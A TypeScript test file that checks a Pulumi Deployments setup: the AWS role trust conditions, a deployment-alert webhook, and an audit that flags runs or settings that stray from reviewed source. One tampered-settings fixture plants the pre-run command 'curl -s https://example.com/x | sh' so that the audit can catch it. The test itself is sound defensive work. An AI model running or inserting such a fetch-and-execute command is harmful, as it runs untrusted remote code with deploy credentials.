/**
 * Issue 29 #3 and #6 in the Pulumi Deployments project (deployments/): what a deployment's
 * trust can bind (the AWS role's whole condition block), the organization webhook that
 * announces every deployment, and the audit that compares each run with this repository's
 * reviewed code (deployments/source-audit.ts), table-tested on records shaped like Pulumi
 * Cloud's REST answers ("Get Settings", "Get Deployment").
 *
 * What this cannot show: that Pulumi Cloud answers with exactly these field names (they follow
 * its REST API documentation), or delivers the webhook; the harness only records what the
 * program would send.
 */
import * as assert from "node:assert/strict";
import * as path from "node:path";
import {
  DEFAULT_DRIFT_CRON,
  DEFAULT_UPDATE_CRON,
  type DeploymentsArgs,
  buildDeployments,
  deploymentAlerts,
  deploymentSettingsArgs,
} from "../deployments/settings";
import {
  type DeploymentRecord,
  type SettingsRecord,
  type SourcePolicy,
  auditProblems,
  createdAt,
  deploymentProblems,
  repositoryOf,
  settingsProblems,
} from "../deployments/source-audit";
import { ROOT, isSecret, runProgram, unwrapSecrets } from "../harness";

const COMMIT = "0123456789abcdef0123456789abcdef01234567";
const UNREVIEWED = "fedcba9876543210fedcba9876543210fedcba98";
const HOOK = "https://hooks.slack.com/services/FAKE-SECRET-5f3c9a";

function args(over: Partial<DeploymentsArgs> = {}): DeploymentsArgs {
  return {
    organization: "veza",
    project: "veza-secrets",
    repository: "veza/veza-secrets",
    branch: "main",
    stacks: {
      development: { clouds: [], kubeconfig: { kind: "secret" } },
      staging: { clouds: [], kubeconfig: { kind: "in-cluster" }, agentPoolId: "pool-staging" },
      production: {
        clouds: ["aws"],
        kubeconfig: { kind: "eks", clusterName: "veza-production", region: "eu-west-1" },
        aws: { accountId: "123456789012" },
        commit: COMMIT,
      },
    },
    reviewStacks: false,
    updateCron: DEFAULT_UPDATE_CRON,
    driftCron: DEFAULT_DRIFT_CRON,
    kubeconfigs: { development: "FAKE-SECRET-kubeconfig" },
    ...over,
  };
}

const policy: SourcePolicy = { repository: "veza/veza-secrets", branch: "main", isReviewed: (c) => c === COMMIT };

/** What Pulumi Cloud would answer for the settings this project writes (sourceContext, vcs, pre-run commands). */
function ownSettings(stack: "development" | "staging" | "production"): SettingsRecord {
  return deploymentSettingsArgs(stack, args()) as unknown as SettingsRecord;
}

/** A run of production as the schedule makes it: the pinned commit of this repository. */
function run(over: Partial<DeploymentRecord> = {}, git: NonNullable<NonNullable<DeploymentRecord["configuration"]>["source"]>["git"] = {}): DeploymentRecord {
  return {
    id: "9e5e1331-a018-4845-8714-1598ba8dc52e",
    version: 34,
    pulumiOperation: "update",
    requestedBy: { githubLogin: "mallory" },
    initiator: "api",
    configuration: { source: { git: { repoURL: "https://github.com/veza/veza-secrets.git", commit: COMMIT, repoDir: ".", ...git } } },
    jobs: [{ steps: [{ name: "Get source" }, { name: "Pre-run command 1" }, { name: "Pre-run command 2" }, { name: "Pulumi operation" }] }],
    ...over,
  };
}

describe("deployments: who can run what (issue 29 #3)", () => {
  it("prints the AWS role's whole trust condition: the organization as audience, only update and refresh of the stack", async () => {
    const program = await runProgram({
      stack: "deployments",
      config: {
        "veza-secrets:organization": "veza",
        "veza-secrets:repository": "veza/veza-secrets",
        "veza-secrets:stacks": {
          development: { kubeconfig: { kind: "secret" } },
          staging: { kubeconfig: { kind: "in-cluster" }, agentPoolId: "pool-staging" },
          production: { kubeconfig: { kind: "eks", clusterName: "veza-production", region: "eu-west-1" }, aws: { accountId: "123456789012" }, commit: COMMIT },
        },
      },
      secrets: { "veza-secrets:kubeconfig-development": "FAKE-SECRET-kubeconfig" },
      program: path.join(ROOT, "deployments", "index.ts"),
    });
    assert.deepEqual(program.outputs.awsTrustConditions, {
      production: {
        StringEquals: {
          "api.pulumi.com/oidc:aud": "veza",
          "api.pulumi.com/oidc:sub": [
            "pulumi:deploy:org:veza:project:veza-secrets:stack:production:operation:update:scope:write",
            "pulumi:deploy:org:veza:project:veza-secrets:stack:production:operation:refresh:scope:write",
          ],
        },
      },
    });
    // Without a receiver, no webhook.
    assert.deepEqual(
      program.resources.filter((r) => r.type === "pulumiservice:index:Webhook"),
      [],
    );
  });

  it("with deploymentAlertsUrl, registers one organization webhook for every deployment as it is queued and starts, its URL a secret", async () => {
    const program = await runProgram({
      stack: "deployments",
      config: {},
      program: () => buildDeployments(args({ deploymentAlerts: deploymentAlerts(HOOK, undefined, undefined) })),
    });
    const hooks = program.resources.filter((r) => r.type === "pulumiservice:index:Webhook");
    assert.deepEqual(
      hooks.map((h) => [h.name, unwrapSecrets(h.inputs)]),
      [
        [
          "deployment-alerts",
          {
            organizationName: "veza",
            displayName: "veza-secrets: every deployment (docs/delivery.md)",
            active: true,
            payloadUrl: HOOK,
            format: "slack",
            filters: ["deployment_queued", "deployment_started"],
          },
        ],
      ],
    );
    // An organization webhook: no project or stack, so Stack Write on production cannot delete it.
    assert.ok(isSecret(hooks[0].inputs.payloadUrl), "the receiver URL is a credential");
    assert.equal(deploymentAlerts(undefined, "raw", "k"), undefined);
    assert.deepEqual(deploymentAlerts(HOOK, "raw", "hmac-key"), { payloadUrl: HOOK, format: "raw", secret: "hmac-key" });
    assert.throws(() => deploymentAlerts(HOOK, "email", undefined), /^Error: \[deploymentAlertsFormat\] must be slack, ms_teams or raw; got "email"\.$/);
  });

  it("the audit finds nothing wrong with the settings this project writes and the runs they make", () => {
    for (const stack of ["development", "staging", "production"] as const) assert.deepEqual(settingsProblems(stack, ownSettings(stack), policy), [], stack);
    const staging = run({ pulumiOperation: "update", jobs: [{ steps: [{ name: "Pre-run command 1" }] }] }, { commit: undefined, branch: "refs/heads/main" });
    assert.deepEqual(
      auditProblems(
        {
          development: { settings: ownSettings("development"), deployments: [] },
          staging: { settings: ownSettings("staging"), deployments: [staging] },
          production: { settings: ownSettings("production"), deployments: [run(), run({ pulumiOperation: "detect-drift" })] },
        },
        policy,
      ),
      [],
    );
  });

  it("the audit reports each run whose source, operation or commands differ, naming the run and who asked", () => {
    const settings = ownSettings("production");
    const at = "production deployment #34 (update, by mallory, via api)";
    const table: [string, DeploymentRecord, string[]][] = [
      [
        "another repository",
        run({}, { repoURL: "https://github.com/mallory/veza-secrets.git" }),
        [`${at}: ran https://github.com/mallory/veza-secrets.git, expected veza/veza-secrets`],
      ],
      ["a commit not on main", run({}, { commit: UNREVIEWED }), [`${at}: ran commit ${UNREVIEWED}, which is not on main`]],
      [
        "a branch instead of the pinned commit",
        run({}, { commit: undefined, branch: "refs/heads/x" }),
        [`${at}: ran branch refs/heads/x, expected the pinned commit`],
      ],
      ["another folder", run({}, { repoDir: "evil" }), [`${at}: ran from folder evil, expected the repository root`]],
      ["no git source", run({ configuration: {} }), [`${at}: no git source recorded (a template or no source), expected veza/veza-secrets`]],
      [
        "a preview of production",
        run({ pulumiOperation: "preview" }),
        ["production deployment #34 (preview, by mallory, via api): operation preview is not one production runs (update, refresh, detect-drift)"],
      ],
      [
        "an extra pre-run command",
        run({ jobs: [{ steps: [{ name: "Pre-run command 1" }, { name: "Pre-run command 2" }, { name: "Pre-run command 3" }] }] }),
        [`${at}: ran 3 pre-run commands, the settings hold 2`],
      ],
    ];
    for (const [what, d, expected] of table) assert.deepEqual(deploymentProblems("production", d, settings, policy), expected, what);
    // Development and staging may run main's head by branch, never another branch.
    assert.deepEqual(deploymentProblems("staging", run({ jobs: [] }, { commit: undefined, branch: "refs/heads/main" }), ownSettings("staging"), policy), []);
    assert.deepEqual(deploymentProblems("staging", run({ jobs: [] }, { commit: undefined, branch: "refs/heads/feature" }), ownSettings("staging"), policy), [
      "staging deployment #34 (update, by mallory, via api): ran branch refs/heads/feature, expected refs/heads/main",
    ]);
    assert.deepEqual(deploymentProblems("staging", run({ jobs: [], pulumiOperation: "destroy" }), ownSettings("staging"), policy), [
      "staging deployment #34 (destroy, by mallory, via api): operation destroy is not one staging runs (update, refresh, preview, detect-drift, remediate-drift)",
    ]);
  });

  it("the audit reports settings changed behind the project's back", () => {
    const own = ownSettings("production");
    const changed: SettingsRecord = {
      sourceContext: { git: { branch: "refs/heads/main" } },
      vcs: { repository: "mallory/fork", previewPullRequests: true, pullRequestTemplate: true, deployCommits: true },
      operationContext: { preRunCommands: [...(own.operationContext?.preRunCommands ?? []), "curl -s https://example.com/x | sh"] },
    };
    assert.deepEqual(settingsProblems("production", changed, policy), [
      "production settings: source repository mallory/fork, expected veza/veza-secrets",
      "production settings: production must run a pinned commit, not branch refs/heads/main",
      "production settings: previews pull requests with the stack's deploy credentials",
      "production settings: is a review-stack template (pull-request code with its deploy credentials)",
      "production settings: deploys every push to production",
      'production settings: unknown pre-run command "curl -s https://example.com/x | sh"',
    ]);
    // The same commands with another EKS cluster are the project's own.
    assert.deepEqual(
      settingsProblems(
        "production",
        { ...own, operationContext: { preRunCommands: ["aws eks update-kubeconfig --name other --region us-east-1", "npm ci --no-audit --no-fund"] } },
        policy,
      ),
      [],
    );
  });

  it("names a repository however the URL spells it, and reads Pulumi Cloud's timestamps as UTC", () => {
    for (const url of [
      "https://github.com/Veza/veza-secrets.git",
      "github.com/veza/veza-secrets/",
      "git@github.com:veza/veza-secrets.git",
      "veza/veza-secrets",
    ]) {
      assert.equal(repositoryOf(url), "veza/veza-secrets", url);
    }
    assert.notEqual(repositoryOf("https://gitlab.com/veza/veza-secrets.git"), "veza/veza-secrets");
    assert.equal(createdAt("2023-09-19 05:49:43.002"), Date.UTC(2023, 8, 19, 5, 49, 43, 2));
    assert.equal(createdAt("2023-09-19T05:49:43Z"), Date.UTC(2023, 8, 19, 5, 49, 43));
  });
});
